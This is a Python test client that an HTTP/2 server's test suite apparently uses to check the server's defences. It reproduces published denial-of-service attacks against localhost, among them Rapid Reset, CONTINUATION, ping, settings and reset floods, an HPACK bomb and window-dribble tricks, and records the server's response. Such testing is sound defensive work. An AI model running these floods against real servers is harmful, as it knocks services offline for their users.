"""Frame-level HTTP/2 client for the server's tests: ordinary exchanges and the published attacks.

Run by HTTP2AttackTests with Debian's interpreter (`/usr/bin/python3`, which has python3-h2):

    h2_frames.py PORT CASE [--tls]

It speaks h2c with prior knowledge (or h2 over TLS by ALPN with --tls), performs CASE, and prints
one JSON line saying what the server did: the GOAWAY it sent (error code, last stream id), the
streams it reset (id -> error code), the statuses it answered, whether it closed the connection,
and how long that took. Every loop is bounded in count and in time.
"""
import hashlib
import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame,
                              SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DEADLINE = 20.0


class Observed:
    def __init__(self):
        self.goaway = None
        self.resets = {}
        self.statuses = {}
        self.retry_after = {}
        self.bodies = {}
        self.closed = False
        self.ended = set()
        self.started = time.monotonic()

    def report(self, **extra):
        out = {
            "goaway": self.goaway, "resets": {str(k): v for k, v in self.resets.items()},
            "statuses": {str(k): v for k, v in self.statuses.items()},
            "bodyBytes": {str(k): len(v) for k, v in self.bodies.items()},
            "closed": self.closed, "elapsed": round(time.monotonic() - self.started, 3),
        }
        out.update(extra)
        print(json.dumps(out))


def connect(port, tls):
    sock = socket.create_connection(("127.0.0.1", port), timeout=DEADLINE)
    if tls:
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        sock = context.wrap_socket(sock, server_hostname="localhost")
        assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    return sock


class RawClient:
    """Writes frames as given (hyperframe), reads what the server sends through h2's parser of frames."""

    def __init__(self, port, tls=False, settings=None):
        self.sock = connect(port, tls)
        self.observed = Observed()
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.buffer = b""
        frame = SettingsFrame(0)
        frame.settings = settings or {}
        self.sock.sendall(PREFACE + frame.serialize())
        # The server's SETTINGS first, acknowledged at once: no acknowledgement lands inside a case's frames later.
        self.settings_seen = False
        self.read(lambda o: self.settings_seen, timeout=5)

    def send(self, *frames):
        data = b"".join(f.serialize() for f in frames)
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, socket.timeout, ssl.SSLError, OSError):
            self.observed.closed = True
            return False

    def headers(self, stream_id, path="/hello", method="GET", end_stream=True, extra=(), end_headers=True):
        block = self.encoder.encode([(":method", method), (":scheme", "http"), (":path", path),
                                     (":authority", "127.0.0.1")] + list(extra))
        frame = HeadersFrame(stream_id, block)
        frame.flags.add("END_HEADERS") if end_headers else None
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame

    def read(self, until, timeout=DEADLINE):
        """Reads frames until `until(observed)` holds, the server closes, or `timeout` passes."""
        from hyperframe.frame import Frame
        deadline = time.monotonic() + timeout
        self.sock.settimeout(0.2)
        while time.monotonic() < deadline and not until(self.observed) and not self.observed.closed:
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                continue
            except (ConnectionResetError, ssl.SSLError, OSError):
                chunk = b""
            if not chunk:
                self.observed.closed = True
                break
            self.buffer += chunk
            while len(self.buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
                if len(self.buffer) < 9 + length:
                    break
                frame.parse_body(memoryview(self.buffer[9:9 + length]))
                self.buffer = self.buffer[9 + length:]
                self.handle(frame)
        return until(self.observed)

    def handle(self, frame):
        kind = type(frame).__name__
        if kind == "GoAwayFrame":
            self.observed.goaway = {"code": frame.error_code, "lastStreamID": frame.last_stream_id,
                                    "debug": frame.additional_data.decode("utf-8", "replace")}
        elif kind == "RstStreamFrame":
            self.observed.resets[frame.stream_id] = frame.error_code
        elif kind == "HeadersFrame":
            for name, value in self.decoder.decode(frame.data):
                name = name.decode() if isinstance(name, bytes) else name
                if name == ":status":
                    self.observed.statuses[frame.stream_id] = int(value)
                elif name == "retry-after":
                    self.observed.retry_after[frame.stream_id] = value.decode() if isinstance(value, bytes) else value
            if "END_STREAM" in frame.flags:
                self.observed.bodies.setdefault(frame.stream_id, b"")
                self.observed.ended.add(frame.stream_id)
        elif kind == "DataFrame":
            self.observed.bodies[frame.stream_id] = self.observed.bodies.get(frame.stream_id, b"") + frame.data
            if "END_STREAM" in frame.flags:
                self.observed.ended.add(frame.stream_id)
        elif kind == "SettingsFrame" and "ACK" not in frame.flags:
            self.settings_seen = True
            ack = SettingsFrame(0)
            ack.flags.add("ACK")
            self.send(ack)
        elif kind == "PingFrame" and "ACK" in frame.flags:
            self.pongs = getattr(self, "pongs", 0) + 1
        elif kind == "PingFrame" and "ACK" not in frame.flags:
            ack = PingFrame(0)
            ack.flags.add("ACK")
            ack.opaque_data = frame.opaque_data
            self.send(ack)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def ended(stream_id):
    return lambda o: stream_id in o.statuses and stream_id in o.bodies or stream_id in o.resets


def goaway_or_closed(o):
    return o.goaway is not None or o.closed


# ---- Cases -------------------------------------------------------------------------------------

def get_with_h2(port, tls, path, window=None):
    """One GET by the h2 library's client (its whole state machine), the stream window `window` when
    given, opened as the data is read: (status, body, ended)."""
    sock = connect(port, tls)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    if window is not None:
        conn.local_settings = h2.settings.Settings(client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
    conn.initiate_connection()
    conn.send_headers(1, [(":method", "GET"), (":scheme", "https" if tls else "http"), (":path", path),
                          (":authority", "127.0.0.1")], end_stream=True)
    sock.sendall(conn.data_to_send())
    status, body, done = None, b"", False
    deadline = time.monotonic() + DEADLINE
    while not done and time.monotonic() < deadline:
        data = sock.recv(65536)
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                status = int(dict(event.headers)[b":status"])
            elif isinstance(event, h2.events.DataReceived):
                body += event.data
                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, h2.events.StreamEnded):
                done = True
        sock.sendall(conn.data_to_send())
    return status, body, done


def case_get(port, tls):
    """One GET /hello: its status and body."""
    status, body, done = get_with_h2(port, tls, "/hello")
    print(json.dumps({"status": status, "body": body.decode(), "ended": done}))


def fetch_through_window(port, tls, window):
    """GET /flood (a streamed 400 KB body) through a stream window of `window` bytes: its status, body
    length and SHA-256."""
    status, body, done = get_with_h2(port, tls, "/flood", window)
    print(json.dumps({"status": status, "length": len(body), "sha256": hashlib.sha256(body).hexdigest(), "ended": done}))


def case_flood_small_window(port, tls):
    """/flood through a 1,000-byte stream window: every 4 KB chunk waits in the stream's queue."""
    fetch_through_window(port, tls, 1000)


def case_flood_large_window(port, tls):
    """/flood through a 1 MiB stream window: every chunk fits its window and goes straight out."""
    fetch_through_window(port, tls, 1 << 20)


def flood(client, make_frames, count, check_every=200):
    """Sends `make_frames(index)` up to `count` times, looking every `check_every` sends for the server's
    GOAWAY or close; reports how many went out."""
    sent = 0
    for index in range(count):
        if not client.send(*make_frames(index)):
            break
        sent += 1
        if sent % check_every == 0 and client.read(goaway_or_closed, timeout=0.01):
            break
    client.read(goaway_or_closed)
    client.observed.report(sent=sent)


def case_rapid_reset(port, tls):
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL), again and again."""
    client = RawClient(port, tls)
    flood(client, lambda i: (client.headers(2 * i + 1, path="/never"), RstStreamFrame(2 * i + 1, error_code=8)), 5000, 100)


def case_continuation_flood(port, tls):
    """CVE-2024-27316 family: HEADERS without END_HEADERS, then CONTINUATION frames without end."""
    client = RawClient(port, tls)
    client.send(client.headers(1, end_headers=False))
    filler = client.encoder.encode([("x-filler", "a" * 200)])
    flood(client, lambda i: (ContinuationFrame(1, filler),), 10000, 50)


def hpack_string(value):
    """An HPACK string literal without Huffman coding (RFC 7541 §5.2), its length a 7-bit-prefix integer."""
    data = value.encode()
    if len(data) < 127:
        return bytes([len(data)]) + data
    rest, out = len(data) - 127, bytearray([0x7F])
    while rest >= 128:
        out.append((rest & 0x7F) | 0x80)
        rest >>= 7
    return bytes(out + bytearray([rest])) + data


def plain_request_block(path="/hello"):
    """GET, http (static 2 and 6), then :path and :authority as literals without indexing: the table is untouched."""
    return b"\x82\x86" + b"\x04" + hpack_string(path) + b"\x01" + hpack_string("127.0.0.1")


def case_hpack_bomb(port, tls):
    """A 4 KB field put in the dynamic table, then a small block naming it a thousand times."""
    client = RawClient(port, tls)
    first = plain_request_block() + b"\x40" + hpack_string("x-big") + hpack_string("b" * 4000)
    frame = HeadersFrame(1, first)
    frame.flags.add("END_HEADERS")
    frame.flags.add("END_STREAM")
    client.send(frame)
    client.read(ended(1))
    # The entry is the dynamic table's only one, index 62: one byte, 0xBE, per copy.
    block = plain_request_block() + b"\xbe" * 1000
    for stream_id, data in ((3, block), (5, plain_request_block())):
        frame = HeadersFrame(stream_id, data)
        frame.flags.add("END_HEADERS")
        frame.flags.add("END_STREAM")
        client.send(frame)
        client.read(ended(stream_id))
    client.observed.report(blockBytes=len(block))


def case_ping_flood(port, tls):
    """CVE-2019-9512: PINGs, each asking for an acknowledgement."""
    client = RawClient(port, tls)
    flood(client, lambda i: (PingFrame(0, opaque_data=i.to_bytes(8, "big")),), 20000)


def case_settings_flood(port, tls):
    """CVE-2019-9515: SETTINGS frames, each asking for an acknowledgement."""
    client = RawClient(port, tls)

    def settings(_):
        frame = SettingsFrame(0)
        frame.settings = {h2.settings.SettingCodes.HEADER_TABLE_SIZE: 4096}
        return (frame,)
    flood(client, settings, 20000)


def case_reset_flood(port, tls):
    """CVE-2019-9514: requests the server must reset (an uppercase field name), one after another."""
    client = RawClient(port, tls)
    flood(client, lambda i: (client.headers(2 * i + 1, extra=[("X-Upper", "1")]),), 20000)


def case_empty_frames_flood(port, tls):
    """CVE-2019-9518: a request whose body is empty DATA frames without END_STREAM, without end."""
    client = RawClient(port, tls)
    client.send(client.headers(1, path="/echo", method="POST", end_stream=False))
    flood(client, lambda i: (DataFrame(1, b""),), 20000)


def case_zero_length_headers(port, tls):
    """CVE-2019-9516: a block of thousands of fields with empty values (each costs 32 bytes of list size)."""
    client = RawClient(port, tls)
    fields = [(":method", "GET"), (":scheme", "http"), (":path", "/hello"), (":authority", "127.0.0.1")]
    fields += [("x-empty-%d" % i, "") for i in range(3000)]
    block = client.encoder.encode(fields)
    first, rest = block[:16000], block[16000:]
    frames = [HeadersFrame(1, first)]
    while rest:
        frames.append(ContinuationFrame(1, rest[:16000]))
        rest = rest[16000:]
    frames[0].flags.add("END_STREAM")
    frames[-1].flags.add("END_HEADERS")
    client.send(*frames)
    client.read(ended(1))
    client.send(client.headers(3))
    client.read(ended(3))
    client.observed.report(fields=len(fields))


def case_window_never_opens(port, tls):
    """A stream window of 0 (SETTINGS_INITIAL_WINDOW_SIZE 0) that is never opened: the stalled stream is
    reset once the server's write timeout passes, while another stream whose window is opened is answered."""
    client = RawClient(port, tls, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    client.send(client.headers(1, path="/big"))
    client.send(client.headers(3, path="/hello"), WindowUpdateFrame(3, window_increment=65535))
    client.read(ended(3))
    answered_at = time.monotonic() - client.observed.started
    client.read(lambda o: 1 in o.resets or o.closed or o.goaway is not None)
    client.observed.report(otherStreamAnsweredAfter=round(answered_at, 3))


def case_data_dribble(port, tls):
    """CVE-2019-9511: a window of one byte, opened one byte at a time, for a large response."""
    client = RawClient(port, tls, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1})
    client.send(client.headers(1, path="/big"))
    frames_received = 0
    deadline = time.monotonic() + DEADLINE
    while time.monotonic() < deadline and 1 not in client.observed.resets and not client.observed.closed:
        before = len(client.observed.bodies.get(1, b""))
        client.read(lambda o: len(o.bodies.get(1, b"")) > before or 1 in o.resets, timeout=2)
        if len(client.observed.bodies.get(1, b"")) > before:
            frames_received += 1
            client.send(WindowUpdateFrame(1, window_increment=1), WindowUpdateFrame(0, window_increment=1))
        if frames_received >= 2000:
            break
    client.observed.report(framesReceived=frames_received)


def case_internal_data_buffering(port, tls):
    """CVE-2019-9517: large responses asked for with the largest windows, and never read: the server must not
    queue them all, and gives up on the connection once its write timeout passes."""
    client = RawClient(port, tls, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 2**31 - 1})
    client.send(WindowUpdateFrame(0, window_increment=2**31 - 1 - 65535))
    client.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    for stream_id in range(1, 2 * 50, 2):
        client.send(client.headers(stream_id, path="/big"))
    # Not reading for a while: the server's buffers fill up to its bound, then its write timeout closes.
    time.sleep(0.2)
    client.read(lambda o: o.closed or o.goaway is not None and o.goaway["code"] != 0, timeout=DEADLINE)
    client.observed.report()


def case_too_many_streams(port, tls):
    """One stream more than SETTINGS_MAX_CONCURRENT_STREAMS (100): that one is refused, the others stay open."""
    client = RawClient(port, tls)
    for stream_id in range(1, 2 * 101, 2):
        client.send(client.headers(stream_id, path="/never"))
    client.read(lambda o: 201 in o.resets)
    client.observed.report(openedStreams=101)


def case_cancel_stream(port, tls):
    """GET /feed, then RST_STREAM(CANCEL) once its first DATA arrived; a PING round trip proves the server read it."""
    client = RawClient(port, tls)
    client.send(client.headers(1, path="/feed"))
    print("opened", flush=True)
    client.read(lambda o: len(o.bodies.get(1, b"")) > 0)
    client.send(RstStreamFrame(1, error_code=8), PingFrame(0, opaque_data=b"cancel!!"))
    client.pongs = 0
    client.read(lambda o: client.pongs > 0, timeout=5)
    client.observed.report(firstData=client.observed.bodies.get(1, b"").decode())


def case_shutdown_wait(port, tls):
    """GET /feed, say "ready" once its first DATA arrived, then read until the server ends it and sends GOAWAY."""
    client = RawClient(port, tls)
    client.send(client.headers(1, path="/feed"))
    client.read(lambda o: len(o.bodies.get(1, b"")) > 0)
    print("ready", flush=True)
    client.read(lambda o: o.goaway is not None and 1 in o.ended)
    client.read(lambda o: o.closed, timeout=5)
    client.observed.report(body=client.observed.bodies.get(1, b"").decode(), ended=sorted(client.observed.ended))


def case_slow_stream(port, tls):
    """A stream window of 0 for a fast streamed response (/flood, 400 KB) that is never opened: the server's
    slow-consumer policy resets that stream only; a second stream, its window opened, is answered."""
    client = RawClient(port, tls, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    client.send(client.headers(1, path="/flood"))
    client.read(lambda o: 1 in o.resets, timeout=10)
    client.send(client.headers(3, path="/hello"), WindowUpdateFrame(3, window_increment=65535))
    client.read(ended(3))
    client.observed.report()


class UnknownFrame:
    """A frame of a type RFC 9113 does not define (0xFA): the receiver must ignore it (§5.5)."""

    def __init__(self, stream_id, body):
        self.stream_id, self.body = stream_id, body

    def serialize(self):
        return len(self.body).to_bytes(3, "big") + bytes([0xFA, 0]) + self.stream_id.to_bytes(4, "big") + self.body


def case_unknown_frames_flood(port, tls):
    """Frames of an unknown type, each ignored by the server, one after another."""
    client = RawClient(port, tls)
    flood(client, lambda i: (UnknownFrame(0, i.to_bytes(8, "big")),), 20000)


def answered_stream(client):
    """GET /hello on stream 1, read to its end: a closed stream to send frames on."""
    client.send(client.headers(1))
    client.read(ended(1))


def case_window_update_closed_flood(port, tls):
    """WINDOW_UPDATE frames (not tiny) on a stream whose exchange is over, one after another."""
    client = RawClient(port, tls)
    answered_stream(client)
    flood(client, lambda i: (WindowUpdateFrame(1, window_increment=1000),), 20000)


def case_reset_closed_flood(port, tls):
    """RST_STREAM frames on a stream whose exchange is over, one after another."""
    client = RawClient(port, tls)
    answered_stream(client)
    flood(client, lambda i: (RstStreamFrame(1, error_code=8),), 20000)


def malformed_then_get(client, frame):
    """Sends `frame` on stream 1, reads the server's answer to it, then GET /hello on stream 3."""
    client.send(frame)
    client.read(ended(1))
    client.send(client.headers(3))
    client.read(ended(3))
    client.observed.report()


def case_content_length_with_end_stream(port, tls):
    """HEADERS declaring content-length: 10 with END_STREAM: a body of 0 bytes, not 10 (RFC 9113 §8.1.1)."""
    client = RawClient(port, tls)
    malformed_then_get(client, client.headers(1, path="/echo", method="POST", extra=[("content-length", "10")]))


def case_content_length_then_trailers(port, tls):
    """content-length: 10, a DATA frame of 5 bytes, then trailers with END_STREAM: the body is 5 bytes short."""
    client = RawClient(port, tls)
    client.send(client.headers(1, path="/echo", method="POST", end_stream=False, extra=[("content-length", "10")]),
                DataFrame(1, b"12345"))
    trailers = HeadersFrame(1, client.encoder.encode([("x-checksum", "1")]))
    trailers.flags.add("END_HEADERS")
    trailers.flags.add("END_STREAM")
    malformed_then_get(client, trailers)


def case_method_not_a_token(port, tls):
    """A :method with a space in it: not an RFC 9110 token."""
    client = RawClient(port, tls)
    malformed_then_get(client, client.headers(1, method="GE T"))


def case_concurrent_gets(port, tls):
    """COUNT GETs opened at once on one connection (argv after CASE: a PATH where {i} is the
    request's number, and COUNT at most 100): every stream's status, and each Retry-After."""
    path, count = sys.argv[3], min(int(sys.argv[4]), 100)
    client = RawClient(port, tls, settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1 << 20})
    streams = [2 * i + 1 for i in range(count)]
    client.send(*(client.headers(stream_id, path=path.replace("{i}", str(i))) for i, stream_id in enumerate(streams)))
    client.send(WindowUpdateFrame(0, window_increment=(1 << 30)))
    client.read(lambda o: all(ended(stream_id)(o) for stream_id in streams))
    client.observed.report(retryAfter={str(k): v for k, v in client.observed.retry_after.items()})


CASES = {name[5:].replace("_", "-"): fn for name, fn in globals().items() if name.startswith("case_")}

if __name__ == "__main__":
    port, case = int(sys.argv[1]), sys.argv[2]
    CASES[case](port, "--tls" in sys.argv[3:])
